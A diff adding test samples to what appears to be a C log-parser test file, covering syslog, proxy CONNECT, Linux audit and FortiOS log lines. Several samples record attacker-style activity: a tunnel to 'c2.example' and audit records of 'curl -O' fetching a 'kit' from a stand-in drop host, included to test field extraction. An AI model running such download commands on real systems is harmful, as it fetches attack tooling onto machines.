@@ -38,6 +38,10 @@ struct sample {
 #define FILE_NAME OBSERVABLE_FILE_NAME
 
 static const struct sample samples[] = {
+	/* RFC 3164 5.4, example 4: no program behind the host */
+	{FORMAT_SYSLOG, FORMAT_TEXT, "", "<0>1990 Oct 22 10:52:01 TZ-6 scapegoat.dmz.example.org 10.1.2.3 sched[0]: That's All Folks!",
+		"~1990-10-22T16:52:01Z", "scapegoat.dmz.example.org", "",
+		{{"message", "10.1.2.3 sched[0]: That's All Folks!", NONE, NULL}}},
 	/* RFC 3164 5.4, example 1 */
 	{FORMAT_SYSLOG, FORMAT_TEXT, "", "<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8",
 		"~2021-10-11T22:14:15Z", "mymachine", "",
@@ -149,6 +153,17 @@ static const struct sample samples[] = {
 		"rt=0.1",
 		"2000-10-10T20:55:36Z", "", "shop.example:8080 /gate.php?id=7",
 		{{"vhost", "shop.example", HOST, NULL}, {"client", "2001:db8::7", HOST, SRC}, {"rest", "rt=0.1", NONE, NULL}}},
+	/* a proxy's tunnel: Apache 2.4's mod_proxy_connect; Squid's logformat combined (squid.conf.documented) */
+	{FORMAT_ACCESS, FORMAT_TEXT, "", "192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"CONNECT c2.example:443 HTTP/1.1\" 200 2326",
+		"2000-10-10T20:55:36Z", "", "", {{"client", "192.0.2.7", HOST, SRC}, {"target", "c2.example:443", HOST, DST}}},
+	{FORMAT_ACCESS, FORMAT_TEXT, "",
+		"192.0.2.7 - alice [10/Oct/2000:13:55:36 -0700] \"CONNECT 203.0.113.66:443 HTTP/1.1\" 200 2326 \"-\" \"curl/7.88.1\" "
+		"TCP_TUNNEL:HIER_DIRECT",
+		"2000-10-10T20:55:36Z", "", "",
+		{{"target", "203.0.113.66:443", HOST, DST}, {"agent", "curl/7.88.1", OBSERVABLE_USER_AGENT, AGENT}}},
+	{FORMAT_ACCESS, FORMAT_TEXT, "",
+		"proxy.example:3128 192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"CONNECT [2001:db8::66]:443 HTTP/1.1\" 200 0 \"-\" \"x\"",
+		"2000-10-10T20:55:36Z", "", "", {{"target", "[2001:db8::66]:443", HOST, DST}}},
 	/* nginx 1.22, Apache 2.4: error logs */
 	{FORMAT_WEB_ERROR, FORMAT_TEXT, "",
 		"2021/05/01 10:00:00 [error] 12#12: *5 open() \"/srv/gate.php\" failed (2: No such file or directory), client: "
@@ -260,6 +275,22 @@ static const struct sample samples[] = {
 	{FORMAT_AUDIT, FORMAT_TEXT, "",
 		"type=SOCKADDR msg=audit(1364481363.243:24287): saddr=0A0001BB0000000020010DB800000000000000000000006600000000",
 		"2013-03-28T14:36:03.243Z", "", "", {{"saddr", "[2001:db8::66]:443", HOST, DST}}},
+	/* ausearch -i of audit 3.0.9 on the records above, in the C locale, and in en_US (test/formats/audit_test.sh) */
+	{FORMAT_AUDIT, FORMAT_TEXT, "",
+		"type=SOCKADDR msg=audit(03/28/13 14:36:03.243:24287) : saddr={ saddr_fam=inet laddr=203.0.113.66 lport=80 } ",
+		"~2013-03-28T14:36:03.243Z", "", "", {{"laddr", "203.0.113.66", ADDRESS, DST}, {"lport", "80", IGNORED, DST_PORT}}},
+	{FORMAT_AUDIT, FORMAT_TEXT, "",
+		"type=PROCTITLE msg=audit(03/28/2013 14:36:03.243:24287) : proctitle=curl -O http://drop.example/kit ",
+		"~2013-03-28T14:36:03.243Z", "", "", {{"proctitle", "curl -O http://drop.example/kit", OBSERVABLE_COMMAND_LINE, COMMAND}}},
+	{FORMAT_AUDIT, FORMAT_TEXT, "",
+		"node=web1 type=EXECVE msg=audit(11/24/2026 10:11:12.123:456) : argc=3 a0=curl a1=-O a2=http://drop.example/kit ",
+		"~2026-11-24T10:11:12.123Z", "web1", "",
+		{{"command_line", "curl -O http://drop.example/kit", OBSERVABLE_COMMAND_LINE, COMMAND}}},
+	{FORMAT_AUDIT, FORMAT_TEXT, "",
+		"type=USER_AUTH msg=audit(03/28/13 12:55:53.159:24270) : pid=3280 uid=bob auid=bob ses=1 msg='op=PAM:authentication "
+		"acct=root exe=/bin/su hostname=jump.example addr=192.0.2.9 terminal=pts/0 res=failed' ",
+		"~2013-03-28T12:55:53.159Z", "", "",
+		{{"addr", "192.0.2.9", ADDRESS, SRC}, {"hostname", "jump.example", HOST, NULL}, {"res", "failed", NONE, NULL}}},
 	/* Fortinet, FortiOS Log Reference: sample of a traffic log */
 	{FORMAT_PAIRS, FORMAT_TEXT, "",
 		"date=2019-05-10 time=11:37:47 logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"vdom1\" "
@@ -279,6 +310,12 @@ static const struct sample samples[] = {
 		"hostname=\"www.evil.example\" url=\"/gate.php\"",
 		"~2019-05-10T11:37:47Z", "fw1", "www.evil.example /gate.php",
 		{{"hostname", "www.evil.example", HOST, NULL}, {"dstip", "203.0.113.35", ADDRESS, DST}}},
+	/* FortiOS before 6.0 tells the zone in tz and no eventtime */
+	{FORMAT_PAIRS, FORMAT_TEXT, "",
+		"date=2019-05-10 time=11:37:47 devname=\"fw1\" logid=\"0000000013\" tz=\"-0500\" srcip=10.1.100.11 dstip=203.0.113.35",
+		"2019-05-10T16:37:47Z", "fw1", "", {{"srcip", "10.1.100.11", ADDRESS, SRC}}},
+	{FORMAT_PAIRS, FORMAT_TEXT, "", "date=2019-05-10 time=11:37:47 devname=fw1 tz=CEST srcip=10.1.100.11 dstip=203.0.113.35",
+		"~2019-05-10T11:37:47Z", "fw1", "", {{"srcip", "10.1.100.11", ADDRESS, SRC}}},
 	/* other programs' hostname is the machine */
 	{FORMAT_PAIRS, FORMAT_TEXT, "", "timestamp=2019-05-10T11:37:47Z hostname=web1 src_ip=192.0.2.7", "2019-05-10T11:37:47Z", "web1", "",
 		{{"src_ip", "192.0.2.7", ADDRESS, SRC}}},
